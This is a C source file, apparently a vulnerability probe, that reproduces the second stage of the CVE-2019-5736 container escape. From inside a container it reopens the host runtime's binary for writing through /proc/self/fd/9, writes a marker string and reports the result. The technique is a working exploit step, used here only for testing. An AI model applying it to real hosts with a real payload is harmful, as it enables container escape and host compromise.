/* exe-probe hold: the rest of the CVE-2019-5736 attack, inside a container. exe-grab left the
 * runtime's binary open read-only on fd 9. This prints "held <st_dev> <st_ino>" of that file, then
 * forks and lets the exec end (so the shim that ran it exits); the forked copy reopens fd 9 for
 * writing through /proc/self/fd/9, as the exploit does, once nothing runs the file any more,
 * writes to it, and leaves "open=<errno> write=<errno>" in /result (0: it worked; -1: not tried).
 * exe-probe nofd: exe-grab could not open /proc/self/exe; prints "nofd". Static: the image holds
 * no libc. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_FD 9

/* Reopens the held file for writing once the shim that ran /victim has exited: while any process
 * runs a file, the kernel refuses to open it for writing (ETXTBSY), so retry that for up to 10 s. */
static int reopen_for_write(void) {
  struct timespec tick = {0, 10 * 1000 * 1000};
  for (int i = 0;; i++) {
    int fd = open("/proc/self/fd/9", O_WRONLY);
    if (fd >= 0 || errno != ETXTBSY || i == 1000) return fd;
    nanosleep(&tick, NULL);
  }
}

static void try_write(void) {
  int open_err = 0, write_err = -1;
  int fd = reopen_for_write();
  if (fd < 0) {
    open_err = errno;
  } else {
    static const char mark[] = "STRATA-EXE-PROBE-WROTE-HERE";
    write_err = write(fd, mark, sizeof mark - 1) == (ssize_t)(sizeof mark - 1) ? 0 : errno;
    close(fd);
  }
  FILE *out = fopen("/result.tmp", "w");
  if (!out) return;
  fprintf(out, "open=%d write=%d\n", open_err, write_err);
  fclose(out);
  rename("/result.tmp", "/result");
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "nofd") == 0) {
    puts("nofd");
    return 1;
  }
  if (argc != 2 || strcmp(argv[1], "hold") != 0) return 2;
  struct stat st;
  if (fstat(HELD_FD, &st) < 0) {
    printf("not-held %d\n", errno);
    return 1;
  }
  printf("held %llu %llu\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
  fflush(stdout);
  pid_t pid = fork();
  if (pid != 0) return pid < 0 ? 1 : 0;
  setsid();
  int null = open("/dev/null", O_RDWR);
  for (int fd = 0; fd < 3; fd++) dup2(null, fd);
  close(null);
  try_write();
  return 0;
}
